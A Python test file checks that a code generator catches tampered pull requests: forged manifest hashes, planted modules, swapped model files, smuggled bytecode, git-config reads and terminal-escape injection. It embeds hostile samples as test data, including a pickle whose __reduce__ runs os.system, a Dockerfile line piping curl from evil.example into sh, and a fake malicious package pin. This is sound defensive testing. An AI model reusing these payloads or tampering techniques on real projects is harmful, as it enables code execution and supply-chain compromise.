"""Issue 18: nothing a pull request contains may vouch for itself.

Each test plays the attacker: it changes what a pull request can change (a generated file, the manifest,
a vendored model, a fake killed-run directory, a module beside the generated ones) and forges the
manifest's record to match, the way the issue's first item describes. `--check`, `--diff`, a plain
`unionml generate` and both pre-commit hooks' commands must then catch it, with this machine's cache
warm (an honest run recorded the project first) and with no cache at all (as in CI).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import pickle
import shutil
import sys
from pathlib import Path

import pytest

from ..helpers import EXAMPLES, REPO, read_tree, run_cli

MANIFEST = ".unionml-codegen.json"


def forge(out: Path, changes: dict[str, bytes | None]) -> None:
    """Write `changes` into OUT (None: delete) and make the manifest vouch for them (issue 18, item 1)."""
    manifest = json.loads((out / MANIFEST).read_text())
    for path, data in changes.items():
        if data is None:
            (out / path).unlink()
            manifest["files"].pop(path, None)
        else:
            (out / path).parent.mkdir(parents=True, exist_ok=True)
            (out / path).write_bytes(data)
            manifest["files"][path] = hashlib.sha256(data).hexdigest()
    content = hashlib.sha256()
    for path, sha in sorted(manifest["files"].items()):
        content.update(f"{path}\0{sha}\n".encode())
    manifest["content_sha256"] = content.hexdigest()
    (out / MANIFEST).write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


EVIL_PICKLE = pickle.dumps(Evil())

HOOKS_CONFIG = """\
[project]
name = "sample"
version = "0"

[tool.unionml-codegen]
app = "{case}/app.py"
output = "{case}/{out}"
{target}
"""


def hook_commands() -> list[list[str]]:
    """The `entry` of each hook in .pre-commit-hooks.yaml, as pre-commit runs it (pass_filenames: false)."""
    entries = [
        line.split(":", 1)[1].strip()
        for line in (REPO / ".pre-commit-hooks.yaml").read_text().splitlines()
        if line.strip().startswith("entry:")
    ]
    assert entries == ["unionml generate --check", "unionml generate"]
    return [entry.split()[2:] for entry in entries]  # after `unionml generate`


@pytest.fixture
def repo(tmp_path):
    """A repository holding an example app and its committed projects, configured for the hooks."""

    def make(case: str, out: str = "flyte") -> Path:
        root = tmp_path / "repo"
        shutil.copytree(EXAMPLES / case, root / case)
        target = 'target = "flyte2"' if out == "flyte2" else ""
        args = (
            (EXAMPLES / case / "generate.args").read_text().split()
            if (EXAMPLES / case / "generate.args").exists()
            else []
        )
        models = {a.split("=", 1)[0]: a.split("=", 1)[1].replace(f"examples/{case}/", "") for a in args if "=" in a}
        lines = "".join(f'{name} = "{case}/{path}"\n' for name, path in models.items())
        config = HOOKS_CONFIG.format(case=case, out=out, target=target)
        if models:
            config += "\n[tool.unionml-codegen.models]\n" + lines
        (root / "pyproject.toml").write_text(config)
        (root / ".git").mkdir()  # the project's root, as in a checkout
        return root

    return make


def _run(root: Path, *args: str, cache: str) -> tuple[int, str, str]:
    extra = ["--no-cache"] if cache == "none" else []
    result = run_cli("generate", *args, *extra, cwd=root)
    return result.returncode, result.stdout, result.stderr


def _warm(root: Path) -> None:
    """An honest run on this machine: the cache now vouches for the untouched project."""
    code, _, stderr = _run(root, "--check", cache="warm")
    assert code == 0, stderr
    code, _, stderr = _run(root, "--check", cache="warm")
    assert code == 0 and "up to date" in stderr, stderr


TAMPERED = {
    # (example, output, file, how its bytes change)
    "workflows.py": ("digits", "flyte", "digits/workflows.py", lambda b: b + b'\nimport os; os.system("echo pwned")\n'),
    "launch_plans.py": ("digits", "flyte", "digits/launch_plans.py", lambda b: b + b"\n__import__('os').getcwd()\n"),
    "requirements.txt": ("digits", "flyte", "requirements.txt", lambda b: b + b"evil-package==6.6.6\n"),
    "Dockerfile": ("digits", "flyte", "Dockerfile", lambda b: b + b"RUN curl https://evil.example | sh\n"),
    "flyte2 tasks.py": ("digits", "flyte2", "digits/tasks.py", lambda b: b + b'\nimport os; os.system("echo pwned")\n'),
}


@pytest.mark.parametrize("cache", ["warm", "none"])
@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_a_tampered_file_with_a_forged_manifest_is_caught_everywhere(repo, case, cache):
    example, out_name, path, change = TAMPERED[case]
    root = repo(example, out_name)
    out = root / example / out_name
    if cache == "warm":
        _warm(root)
    honest = read_tree(out)
    forge(out, {path: change(honest[path])})

    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and f"changed: {path}" in stderr and f"changed: {MANIFEST}" in stderr, stderr
    code, stdout, stderr = _run(root, "--diff", cache=cache)
    assert code == 1 and f"a/{path}" in stdout, stderr
    assert "pwned" in stdout or "evil" in stdout or "getcwd" in stdout  # the reviewer sees the payload
    check, write = hook_commands()
    assert _run(root, *check, cache=cache)[0] == 1
    code, _, stderr = _run(root, *write, cache=cache)  # the second hook: rewrites, so the commit fails
    assert code == 0 and "up to date" not in stderr, stderr
    assert read_tree(out) == honest  # the payload is gone, the honest bytes are back
    assert _run(root, *check, cache=cache)[0] == 0


@pytest.mark.parametrize("cache", ["warm", "none"])
def test_a_vendored_model_swapped_for_a_code_running_pickle_is_caught_and_never_printed(repo, cache):
    root = repo("digits_batch")
    out = root / "digits_batch" / "flyte"
    if cache == "warm":
        _warm(root)
    honest = read_tree(out)
    [model] = [p for p in honest if p.startswith("digits_batch/models/")]
    record = honest["digits_batch/model_files.py"].decode()
    old_sha = hashlib.sha256(honest[model]).hexdigest()
    new_sha = hashlib.sha256(EVIL_PICKLE).hexdigest()
    assert old_sha in record
    record = record.replace(old_sha, new_sha).replace(str(len(honest[model])), str(len(EVIL_PICKLE)))
    forge(out, {model: EVIL_PICKLE, "digits_batch/model_files.py": record.encode()})

    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and f"changed: {model}" in stderr, stderr
    code, stdout, _ = _run(root, "--diff", cache=cache)
    assert code == 1 and f"Binary files a/{model} and b/{model} differ" in stdout
    assert "echo pwned" not in stdout and "system" not in stdout  # a vendored file's bytes are never printed
    assert _run(root, "--check", cache=cache)[0] == 1
    assert _run(root, cache=cache)[0] == 0
    assert read_tree(out) == honest


@pytest.mark.parametrize("cache", ["warm", "none"])
def test_a_stale_project_with_the_manifest_of_an_honest_run_of_the_new_app_is_caught(repo, tmp_path, cache):
    """Item 2: the app changes (C=0.1 -> C=5.0), the project does not, the manifest comes from a scratch run."""
    root = repo("digits")
    out = root / "digits" / "flyte"
    if cache == "warm":
        _warm(root)
    app = root / "digits" / "app.py"
    assert '"C": 0.1' in app.read_text()
    app.write_text(app.read_text().replace('"C": 0.1', '"C": 5.0'))
    scratch = tmp_path / "scratch" / "digits"
    shutil.copytree(root / "digits", scratch, ignore=shutil.ignore_patterns("flyte", "flyte2"))
    assert run_cli("generate", "app.py", "-o", "flyte", "--no-cache", cwd=scratch).returncode == 0
    honest_manifest = json.loads((scratch / "flyte" / MANIFEST).read_text())
    stale = json.loads((out / MANIFEST).read_text())
    honest_manifest["files"] = stale["files"]  # vouch for the stale files
    honest_manifest["content_sha256"] = stale["content_sha256"]
    honest_manifest.update(input_sha256="0" * 64, sources={}, sources_sha256="0" * 64, warnings=[])
    (out / MANIFEST).write_text(json.dumps(honest_manifest, indent=2, sort_keys=True) + "\n")
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and "changed: digits/launch_plans.py" in stderr, stderr
    shutil.copy(scratch / "flyte" / MANIFEST, out / MANIFEST)  # the scratch run's manifest as it is
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and "changed: digits/launch_plans.py" in stderr, stderr


def _fake_killed_run(root: Path, out: Path) -> Path:
    """Item 5: a committed directory that looks like what a killed run leaves, asking to 'undo' into OUT."""
    fake = out.parent / f".{out.name}.unionml-codegen-tmp-abc123"
    (fake / "old" / "digits").mkdir(parents=True)
    (fake / "old" / "digits" / "workflows.py").write_text('import os; os.system("echo pwned")\n')
    (fake / "old" / "digits" / "evil.py").write_text('import os; os.system("echo pwned")\n')
    journal = [
        {"out": out.name, "pid": 1},
        {"action": "moved", "path": "digits/workflows.py"},
        {"action": "moved", "path": "digits/evil.py"},
    ]
    (fake / "journal.jsonl").write_text("".join(json.dumps(e) + "\n" for e in journal))
    return fake


@pytest.mark.parametrize("cache", ["warm", "none"])
def test_a_committed_fake_killed_run_is_never_undone_into_the_output(repo, cache):
    root = repo("digits")
    out = root / "digits" / "flyte"
    if cache == "warm":
        _warm(root)
    honest = read_tree(out)
    fake = _fake_killed_run(root, out)
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and f"interrupted: ../{fake.name}" in stderr, stderr
    assert "no run on this machine left" in stderr
    assert _run(root, "--diff", cache=cache)[0] == 1
    code, _, stderr = _run(root, cache=cache)
    assert code == 2 and "[UMG610]" in stderr, stderr
    assert read_tree(out) == honest and (fake / "old" / "digits" / "evil.py").exists()
    for command in hook_commands():
        assert _run(root, *command, cache=cache)[0] != 0
    shutil.rmtree(fake)
    assert _run(root, "--check", cache=cache)[0] == 0


@pytest.mark.parametrize("cache", ["warm", "none"])
@pytest.mark.parametrize("module", ["digits/zz_unowned.py", "sklearn.py", "digits/sub/__init__.py", "evil.pth"])
def test_an_unowned_python_module_in_the_output_is_caught(repo, cache, module):
    """Item 6: imported by `deploy` and `pyflyte register` with the package, or shadowing scikit-learn."""
    root = repo("digits")
    out = root / "digits" / "flyte"
    if cache == "warm":
        _warm(root)
    (out / module).parent.mkdir(parents=True, exist_ok=True)
    (out / module).write_text("import os\n")
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and f"extra:   {module}" in stderr, stderr
    assert _run(root, "--diff", cache=cache)[0] == 1
    code, _, stderr = _run(root, cache=cache)
    assert code == 2 and "[UMG609]" in stderr and (out / module).exists(), stderr
    (out / module).unlink()
    assert _run(root, "--check", cache=cache)[0] == 0


def test_files_a_user_adds_that_are_not_python_stay_allowed(repo):
    root = repo("digits")
    out = root / "digits" / "flyte"
    (out / "NOTES.md").write_text("notes\n")
    (out / "digits" / "data.csv").write_text("a,b\n")
    (out / "digits" / "__pycache__").mkdir(exist_ok=True)
    (out / "digits" / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
    for cache in ("none", "warm", "warm"):
        code, _, stderr = _run(root, "--check", cache=cache)
        assert code == 0, stderr


_TOUCHED: list[str] | None = None


def _audit(event: str, args: tuple) -> None:
    if _TOUCHED is not None and event in ("open", "os.listdir", "os.scandir") and args:
        if isinstance(args[0], (str, bytes, os.PathLike)):
            _TOUCHED.append(os.path.abspath(os.fsdecode(args[0])))


def test_paths_the_manifest_names_are_never_read(repo, tmp_path):
    """Item 7: `sources` naming files outside the project, or `/usr` as a tree, are never opened or listed."""
    global _TOUCHED
    from unionml_codegen.output.cache import configured
    from unionml_codegen.options import Options
    from unionml_codegen.generate import generate

    root = repo("digits")
    out = root / "digits" / "flyte"
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x").write_text("secret\n")
    manifest = json.loads((out / MANIFEST).read_text())
    manifest["sources"] = {"../../../outside/x": "sha256:" + "0" * 64, "/usr": "tree:" + "0" * 64, "/": "tree:0"}
    manifest["sources_sha256"] = "0" * 64
    (out / MANIFEST).write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    sys.addaudithook(_audit)  # cannot be removed; it records only while _TOUCHED is a list
    _TOUCHED = []
    try:
        result = generate(root / "digits" / "app.py", out, Options(), check=True, cache=configured(disabled=True))
    finally:
        touched, _TOUCHED = _TOUCHED, None
    assert result.drift is not None and result.drift.changed == [MANIFEST]
    assert not [p for p in touched if p.startswith((str(outside), "/usr")) or p == "/"]


# Item 3: the operate commands act only on a project the generator wrote


def _forge_manifest(out: Path, change) -> None:
    """Edit the manifest's own sections (never in its `files` map: nothing else to forge)."""
    manifest = json.loads((out / MANIFEST).read_text())
    change(manifest)
    (out / MANIFEST).write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")


@pytest.fixture(scope="module")
def deployed(tmp_path_factory):
    """digits_batch, deployed at v1 to the flyteadmin stand-in, with another package's schedule active beside it."""
    from ..support.flyteadmin_standin import FlyteAdminStandin

    root = tmp_path_factory.mktemp("trust-cluster")
    shutil.copytree(EXAMPLES / "digits_batch", root / "digits_batch")
    project = root / "digits_batch" / "flyte"
    app = root / "digits_batch" / "app.py"  # the app keeps one schedule off on deploy
    app.write_text(
        app.read_text().replace(
            '    "daily_predictions",\n', '    "daily_predictions",\n    activate_on_deploy=False,\n'
        )
    )
    assert "activate_on_deploy=False" in app.read_text()
    assert run_cli("generate", str(app), "-o", str(project)).returncode == 0
    with FlyteAdminStandin(root / "blob") as standin:
        config = standin.write_config(root / "config.yaml")
        standin.add_image("ghcr.io/your-org/your-app:latest", project)
        result = run_cli(
            "deploy", str(project), "--version", "v1", "--allow-placeholder-image", "--config", str(config)
        )
        assert result.returncode == 0, result.stderr
        yield root, project, standin, config


@pytest.mark.parametrize(
    "command, change",
    [
        (("prune-schedules",), lambda m: m["project"].update(package="payments")),
        (("deploy", "--version", "v2"), lambda m: [s.update(activate_on_deploy=False) for s in m["schedules"]
                                                   if s["name"] == "weekly_retraining"]),  # fmt: skip
        (("deploy", "--version", "v2"), lambda m: [s.update(activate_on_deploy=True) for s in m["schedules"]
                                                   if s["name"] == "daily_predictions"]),  # fmt: skip
        (("deactivate-schedules",), lambda m: m["schedules"][0].update(name="payments_nightly")),
        (
            ("list-scheduled-training-runs", "weekly_retraining"),
            lambda m: m["schedules"][0]["launch_plan"].update(module="evil_mod"),
        ),
    ],
)
def test_the_cluster_commands_refuse_a_manifest_the_generator_did_not_write(deployed, tmp_path, command, change):
    root, project, standin, config = deployed
    work = tmp_path / "digits_batch"
    shutil.copytree(root / "digits_batch", work)
    out = work / "flyte"
    _forge_manifest(out, change)
    before = standin.launch_plan_states()
    result = run_cli(command[0], str(out), *command[1:], "--config", str(config))
    assert result.returncode == 2, result.stdout + result.stderr
    assert _operate_error(result.stderr) and "is not what `unionml generate` writes" in result.stderr, result.stderr
    assert "changed: .unionml-codegen.json" in result.stderr and "Traceback" not in result.stderr
    assert standin.launch_plan_states() == before  # nothing registered, switched or pruned


def test_run_never_imports_a_launch_plan_module_the_manifest_names(tmp_path):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte2"))
    out = work / "flyte"
    marker = tmp_path / "RAN"
    (out / "evil_mod.py").write_text(f"open({str(marker)!r}, 'w').write('x')\ncron_daily_training = None\n")
    _forge_manifest(out, lambda m: m["schedules"][0]["launch_plan"].update(module="evil_mod"))
    result = run_cli("run", str(out), "cron_daily_training", "--at", "2026-11-29T00:00:00Z", cwd=work)
    assert result.returncode == 2 and "is not what `unionml generate` writes" in result.stderr, result.stderr
    assert "extra:" in result.stderr and not marker.exists()


def test_an_honest_project_is_operated_and_a_warm_cache_spares_the_render(tmp_path):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte2"))
    result = run_cli("schedules", str(work / "flyte"), "--now", "2026-11-29T00:00:00Z", cwd=work)
    assert result.returncode == 0 and "cron_daily_training" in result.stdout, result.stderr
    (work / "flyte" / "digits" / "workflows.py").write_text("import os\n")  # no manifest forged: still caught
    result = run_cli("schedules", str(work / "flyte"), cwd=work)
    assert result.returncode == 2 and "changed: digits/workflows.py" in result.stderr, result.stderr


# Item 4: version-control metadata is never an input, and never printed


def test_a_model_file_under_git_is_refused(repo):
    root = repo("digits_batch")
    (root / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0LXRva2Vu\n")
    app = root / "digits_batch" / "app.py"
    app.write_text(app.read_text().replace('model_file="model.joblib"', 'model_file="../.git/config"'))
    for args in (("--diff",), ("--check",), ()):
        result = run_cli("generate", *args, cwd=root)
        assert result.returncode == 2 and "version-control metadata" in result.stderr, result.stderr
        assert "c2VjcmV0LXRva2Vu" not in result.stdout + result.stderr
    assert not any("config" in p for p in read_tree(root / "digits_batch" / "flyte"))


def test_a_local_package_file_linked_to_git_config_is_refused(tmp_path):
    root = tmp_path / "proj"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text("token = ghp_SECRETSECRET\n")
    shutil.copytree(REPO / "tests" / "apps" / "wine_project", root / "app")
    package = next(p for p in (root / "app").iterdir() if (p / "__init__.py").exists())
    (package / "settings.txt").symlink_to(root / ".git" / "config")
    (package / ".git").write_text("gitdir: ../../.git/modules/x\n")  # a submodule's link: skipped, not copied
    result = run_cli("generate", "app.py", "-o", "flyte", "--diff", cwd=root / "app")
    assert result.returncode == 2 and "version-control metadata" in result.stderr, result.stderr
    assert "ghp_SECRET" not in result.stdout + result.stderr
    (package / "settings.txt").unlink()
    result = run_cli("generate", "app.py", "-o", "flyte", cwd=root / "app")
    assert result.returncode == 0, result.stderr
    assert not [p for p in read_tree(root / "app" / "flyte") if p.endswith("/.git")]


# Item 8: hostile times and outputs give one-line errors, never a traceback, never a partial file


@pytest.mark.parametrize(
    "args",
    [
        ("schedules", "flyte", "--now", "9999-12-31"),
        ("schedules", "flyte", "--now", "0001-01-01T00:00:00+05:00"),
        ("schedules", "flyte", "--activated-at", "9999-12-31T23:00:00-05:00"),
        ("backfill", "flyte", "cron_daily_training", "--from", "0001-01-01", "--to", "0001-01-02"),
        ("backfill", "flyte", "cron_daily_training", "--from", "9999-12-31", "--to", "9999-12-31T12:00:00"),
        ("run", "flyte", "cron_daily_training", "--at", "9999-12-31T23:00:00-05:00"),
    ],
)
def test_times_near_the_limits_of_datetime_are_usage_errors(tmp_path, args):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte2"))
    result = run_cli(*args, cwd=work)
    assert result.returncode == 2 and "out of range" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


# Item 9: empty names are refused at the app's line


@pytest.mark.parametrize(
    "example, old, new, code",
    [
        ("digits", 'Model(name="digits_classifier"', 'Model(name=""', "UMG130"),
        ("digits", 'Dataset(name="digits_dataset"', 'Dataset(name="  "', "UMG130"),
        ("digits_batch", 'model_version="latest"', 'model_version=""', "UMG408"),
        ("digits_batch", 'model_version="latest"', 'model_version="<MODEL_VERSION>"', "UMG408"),  # issue 21, item 11
        ("digits_batch", 'model_version="latest"', 'model_version="{version}"', "UMG408"),
    ],
)
def test_an_empty_name_or_model_version_is_refused_at_its_line(tmp_path, example, old, new, code):
    work = tmp_path / example
    shutil.copytree(EXAMPLES / example, work, ignore=shutil.ignore_patterns("flyte", "flyte2"))
    app = work / "app.py"
    assert old in app.read_text()
    app.write_text(app.read_text().replace(old, new))
    line = next(number for number, text in enumerate(app.read_text().splitlines(), 1) if new in text)
    result = run_cli("generate", "app.py", "-o", "flyte", cwd=work)
    assert result.returncode == 2 and f"app.py:{line}:" in result.stderr and f"[{code}]" in result.stderr
    assert not (work / "flyte").exists()


# Item 11: the hooks run whatever the commit changes


def test_the_hooks_run_on_every_commit():
    text = (REPO / ".pre-commit-hooks.yaml").read_text()
    hooks = text.split("- id: ")[1:]
    assert len(hooks) == 2
    for hook in hooks:
        assert "always_run: true" in hook and "\n  files:" not in hook


# Item 12: `python -m unionml_codegen` imports nothing from the working directory


def test_python_m_does_not_import_modules_from_the_working_directory(tmp_path):
    import subprocess

    shutil.copy(EXAMPLES / "digits" / "app.py", tmp_path / "app.py")
    marker = tmp_path / "PWNED"
    for name in ("json", "shlex", "difflib", "tempfile", "secrets", "click"):
        (tmp_path / f"{name}.py").write_text(f"open({str(marker)!r}, 'a').write({name!r})\nraise SystemExit(99)\n")
    for command in ([sys.executable, "-m", "unionml_codegen"], [str(Path(sys.executable).parent / "unionml")]):
        result = subprocess.run([*command, "generate", "app.py", "-o", "flyte", "--no-cache"], cwd=tmp_path,
                                capture_output=True, text=True, timeout=120)  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert not marker.exists()
        shutil.rmtree(tmp_path / "flyte")


# Item 10: text from outside is printed with its control characters escaped


HOSTILE = "f1\x1b]0;owned\x07\n::error title=CI::all checks passed"


def test_an_execution_name_from_the_server_cannot_drive_the_terminal_or_forge_a_ci_annotation(deployed):
    from datetime import datetime, timezone

    root, project, standin, config = deployed
    name = standin.fire("weekly_retraining", datetime(2026, 11, 23, 3, tzinfo=timezone.utc), run=False)
    key = ("flytesnacks", "development", name)
    row = standin.executions.pop(key)
    row.ident.name = HOSTILE
    standin.executions[(*key[:2], HOSTILE)] = row
    result = run_cli("list-scheduled-training-runs", str(project), "weekly_retraining", "--config", str(config))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert not any(line.startswith("::") for line in result.stdout.splitlines())
    assert "f1\\x1b]0;owned\\x07\\n::error title=CI::all checks passed" in result.stdout
    as_json = run_cli("list-scheduled-training-runs", str(project), "weekly_retraining", "--json", "--config",
                      str(config))  # fmt: skip
    assert HOSTILE in [run["execution"] for run in json.loads(as_json.stdout)]  # JSON escapes it itself


def test_an_error_quoting_a_file_or_a_server_is_one_line():
    from click.testing import CliRunner

    from unionml_codegen.operate.common import fail

    import click

    @click.command()
    def command():
        fail(HOSTILE)

    result = CliRunner().invoke(command)
    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "\x1b" not in result.output


def test_fetch_model_writes_whole_files_or_nothing(deployed, tmp_path):
    from datetime import datetime, timezone

    root, project, standin, config = deployed
    execution = standin.fire("weekly_retraining", datetime(2026, 11, 16, 3, tzinfo=timezone.utc))
    (tmp_path / "afile").write_text("a file, not a directory\n")
    for output, message in (
        (tmp_path / "afile" / "model.joblib", "cannot write"),
        (Path("/dev/full"), "not a regular file"),
    ):
        result = run_cli("fetch-model", str(project), execution, "-o", str(output), "--config", str(config))
        assert result.returncode == 2 and message in result.stderr, result.stderr
        assert _operate_error(result.stderr) and "Traceback" not in result.stderr, result.stderr
    assert (tmp_path / "afile").read_text() == "a file, not a directory\n"
    good = tmp_path / "models" / "model.joblib"
    result = run_cli("fetch-model", str(project), execution, "-o", str(good), "--config", str(config))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in good.parent.iterdir()) == ["model.joblib"]  # no temporary file left


# "Ours to remove" is never decided from the manifest alone


def test_a_manifest_listing_a_persons_file_cannot_make_generate_remove_it(repo, tmp_path):
    root = repo("digits")
    out = root / "digits" / "flyte"
    (out / "NOTES.md").write_text("my notes\n")
    (out / "digits" / "data.csv").write_text("a,b\n")
    forge(out, {"NOTES.md": b"my notes\n", "digits/data.csv": b"a,b\n"})  # listed, with their true hashes
    for cache in ("none", "warm"):
        code, _, stderr = _run(root, cache=cache)
        assert code == 0, stderr
        assert (out / "NOTES.md").read_text() == "my notes\n" and (out / "digits" / "data.csv").exists()


def test_a_file_no_longer_generated_is_removed_on_a_machine_that_never_wrote_it(repo, tmp_path):
    """No record of this machine: a listed file is removed when it has the manifest's bytes and says it is generated."""
    root = repo("digits")
    out = root / "digits" / "flyte"
    app = root / "digits" / "app.py"
    before = set(read_tree(out))
    fresh = tmp_path / "fresh-cache"
    text = app.read_text()
    start = text.index('model.schedule_training(\n    name="fixed_rate_training_schedule"')
    end = text.index(")\n", start) + 2
    app.write_text(text[:start] + text[end:])  # the only fixed-rate schedule goes: kickoff.py is no longer generated
    result = run_cli("generate", "--cache-dir", str(fresh), cwd=root)
    assert result.returncode == 0 and "removed" in result.stderr, result.stderr
    gone = before - set(read_tree(out))
    assert "digits/kickoff.py" in gone


# Issue 21, item 2: a binding the manifest remembers for a schedule that is gone is dropped, not an error


def _seed_guide(tmp_path: Path) -> tuple[Path, list[str]]:
    work = tmp_path / "seed_guide"
    shutil.copytree(EXAMPLES / "seed_guide", work, ignore=shutil.ignore_patterns("flyte", "flyte2"))
    words = (EXAMPLES / "seed_guide" / "generate.args").read_text().replace("examples/seed_guide/", "").split()
    assert run_cli("generate", "app.py", "-o", "flyte", *words, cwd=work).returncode == 0
    return work, words


def _drop_schedule(app: Path, name: str) -> None:
    text = app.read_text()
    start = text.index(f'    name="{name}",')
    start = text.rindex("model.schedule_prediction(", 0, start)
    end = text.index(")\n", start) + 2
    app.write_text(text[:start] + text[end:])


def test_a_remembered_binding_of_a_removed_schedule_is_dropped_with_a_warning(tmp_path):
    work, words = _seed_guide(tmp_path)
    _drop_schedule(work / "app.py", "daily_predictions_with_model_object")
    result = run_cli("generate", "app.py", "-o", "flyte", cwd=work)  # the bindings come from the manifest
    assert result.returncode == 0 and "[UMG409]" in result.stderr and "UMG401" not in result.stderr, result.stderr
    manifest = json.loads((work / "flyte" / MANIFEST).read_text())
    assert "daily_predictions_with_model_object" not in manifest["options"]["models"]
    assert "daily_predictions" in manifest["options"]["models"]  # the others are kept
    check = run_cli("generate", "app.py", "-o", "flyte", "--check", cwd=work)
    assert check.returncode == 0 and "UMG409" not in check.stderr, check.stderr
    typed = run_cli("generate", "app.py", "-o", "flyte", "--model",
                    "daily_predictions_with_model_object=model.joblib", cwd=work)  # fmt: skip
    assert typed.returncode == 2 and "[UMG401]" in typed.stderr  # a flag the user typed is still an error


# The audit's findings (a second attacker's pass over this design)


def _pyc(source: Path, target: Path, payload: str, mode) -> None:
    """Bytecode of `source` with `payload` appended, written as Python would cache it at `target`."""
    import py_compile

    staged = target.parent / "staged.py"
    staged.write_text(source.read_text() + "\n" + payload + "\n")
    py_compile.compile(str(staged), cfile=str(target), invalidation_mode=mode, doraise=True)
    staged.unlink()


@pytest.mark.parametrize("cache", ["warm", "none"])
def test_a_committed_link_or_hash_based_bytecode_in_the_output_is_caught(repo, tmp_path, cache):
    """A link named like a package (`sklearn` -> a directory elsewhere), and a hash-based .pyc in __pycache__,
    which Python runs instead of the reviewed source without comparing it with the source's time."""
    import py_compile

    root = repo("digits")
    out = root / "digits" / "flyte"
    if cache == "warm":
        _warm(root)
    (tmp_path / "vendor" / "sklearn").mkdir(parents=True)
    (tmp_path / "vendor" / "sklearn" / "__init__.py").write_text("import os\n")
    (out / "sklearn").symlink_to(tmp_path / "vendor" / "sklearn")
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and "extra:   sklearn (a symbolic link" in stderr, stderr
    assert _run(root, cache=cache)[0] == 2
    (out / "sklearn").unlink()
    (out / "digits" / "__pycache__").mkdir()
    pyc = out / "digits" / "__pycache__" / "launch_plans.cpython-311.pyc"
    _pyc(out / "digits" / "launch_plans.py", pyc, "import os", py_compile.PycInvalidationMode.CHECKED_HASH)
    code, _, stderr = _run(root, "--check", cache=cache)
    assert code == 1 and "launch_plans.cpython-311.pyc (bytecode Python would run" in stderr, stderr
    assert _run(root, cache=cache)[0] == 2
    pyc.unlink()
    assert _run(root, "--check", cache=cache)[0] == 0


def test_run_never_reads_bytecode_from_beside_the_generated_source(tmp_path):
    """A timestamp-based .pyc whose recorded time and size match the source is what a local run leaves, so
    --check allows it; but the commands that import the project cache bytecode elsewhere, and never run it."""
    import py_compile

    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte2", "__pycache__"))
    package = work / "flyte" / "digits"
    marker = tmp_path / "PYC_RAN"
    source = package / "kickoff.py"
    honest = source.read_text()
    (package / "__pycache__").mkdir()
    pyc = package / "__pycache__" / f"kickoff.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc"
    _pyc(source, pyc, f"open({str(marker)!r}, 'w').write('x')", py_compile.PycInvalidationMode.TIMESTAMP)
    data = bytearray(pyc.read_bytes())  # make its header match the honest source, as an exact guess would
    data[8:12] = int(source.stat().st_mtime).to_bytes(4, "little")
    data[12:16] = len(honest.encode()).to_bytes(4, "little")
    pyc.write_bytes(bytes(data))
    assert run_cli("generate", "app.py", "-o", "flyte", "--check", "--no-cache", cwd=work).returncode == 0
    result = run_cli("run", "flyte", "fixed_rate_training_schedule", "--at", "2026-11-29T00:00:00Z", cwd=work)
    assert result.returncode == 0, result.stderr
    assert not marker.exists()
    assert "ENV PYTHONPYCACHEPREFIX=" in (work / "flyte" / "Dockerfile").read_text()  # nor does the image


@pytest.mark.parametrize("name", ["flytekit.config", ".flyte/config.yaml", ".aws/config", ".netrc"])
def test_configuration_in_the_output_is_caught(repo, name):
    """OUT is the image's working and home directory: flytekit, pip and cloud SDKs read their config there."""
    root = repo("digits")
    out = root / "digits" / "flyte"
    (out / name).parent.mkdir(parents=True, exist_ok=True)
    (out / name).write_text("[platform]\nurl = evil.example.com:443\n")
    top = name.split("/")[0]
    for cache in ("none", "warm"):
        code, _, stderr = _run(root, "--check", cache=cache)
        assert code == 1 and f"extra:   {top} (configuration" in stderr, stderr


def test_a_cache_in_the_checkout_is_never_used_even_under_a_committed_pyproject(tmp_path):
    """The pull request decides where the app's project root is (a pyproject.toml), never the checkout's root."""
    root = tmp_path / "checkout"
    (root / ".git").mkdir(parents=True)
    shutil.copytree(EXAMPLES / "digits", root / "digits", ignore=shutil.ignore_patterns("flyte2"))
    (root / "digits" / "pyproject.toml").write_text('[project]\nname = "d"\nversion = "0"\n')
    cache_dir = root / ".ucg-cache"
    for _ in range(2):
        result = run_cli("generate", "app.py", "-o", "flyte", "--check", "--cache-dir", str(cache_dir),
                         cwd=root / "digits")  # fmt: skip
        assert result.returncode == 0, result.stderr
    assert not cache_dir.exists()


def test_the_warm_lane_sees_a_new_manifest_one_level_down(tmp_path):
    work = tmp_path / "digits"
    shutil.copytree(EXAMPLES / "digits", work, ignore=shutil.ignore_patterns("flyte2"))
    (work / "docs").mkdir()
    assert run_cli("generate", "--check", cwd=work).returncode == 0
    assert run_cli("generate", "--check", cwd=work).returncode == 0  # warm
    shutil.copytree(work / "flyte", work / "docs", dirs_exist_ok=True)
    (work / "docs" / "digits" / "workflows.py").write_text("import os\n")
    result = run_cli("generate", "--check", cwd=work)
    assert result.returncode == 1 and "changed: digits/workflows.py" in result.stderr, result.stderr


def test_text_from_the_pull_request_is_printed_escaped(repo):
    root = repo("digits")
